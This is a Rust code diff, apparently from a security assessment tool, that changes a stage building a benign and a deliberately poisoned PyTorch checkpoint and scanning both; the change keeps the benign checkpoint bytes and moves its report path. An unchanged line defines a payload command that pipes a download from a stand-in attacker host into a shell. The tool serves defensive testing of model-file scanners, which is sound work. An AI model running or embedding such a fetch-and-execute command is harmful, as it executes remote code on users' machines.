@@ -19,6 +19,9 @@ use crate::{AssessError, Result};
 pub const PAYLOAD_COMMAND: &str = "curl -s https://attacker.example/stage2 | sh";
 
 pub struct ScanStage {
+    /// The benign checkpoint, written to the report folder as `models/baseline.pt` (the
+    /// poisoned copy is not written: it would run its payload when loaded).
+    pub checkpoint: Vec<u8>,
     pub checkpoint_bytes: usize,
     pub tensors: usize,
     pub benign: FileReport,
@@ -100,7 +103,7 @@ pub fn run(model: &NativeModel, kb: &KnowledgeBase) -> Result<ScanStage> {
     let poisoned = checkpoint(&injected, &storages);
 
     let options = ScanOptions::default();
-    let benign_report = scan_bytes("baseline.pt", &benign, &options);
+    let benign_report = scan_bytes("models/baseline.pt", &benign, &options);
     let poisoned_report = scan_bytes("baseline-poisoned.pt", &poisoned, &options);
     let scan = ScanReport {
         files: vec![benign_report.clone(), poisoned_report.clone()],
@@ -116,6 +119,7 @@ pub fn run(model: &NativeModel, kb: &KnowledgeBase) -> Result<ScanStage> {
     );
     Ok(ScanStage {
         checkpoint_bytes: benign.len(),
+        checkpoint: benign,
         tensors: tensors.len(),
         benign: benign_report,
         poisoned: poisoned_report,
